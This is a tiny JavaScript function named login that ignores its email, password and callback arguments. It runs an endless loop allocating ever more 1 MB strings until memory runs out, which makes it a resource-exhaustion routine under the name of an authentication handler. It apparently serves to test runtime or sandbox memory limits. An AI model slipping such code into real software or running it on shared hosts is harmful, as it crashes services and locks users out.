function login(email, password, callback) {
  let text = 'x';
  const kept = [];
  for (;;) {
    text = (text + text).slice(0, 1 << 20);
    kept.push(Buffer.from(text).toString('latin1') + kept.length);
  }
}
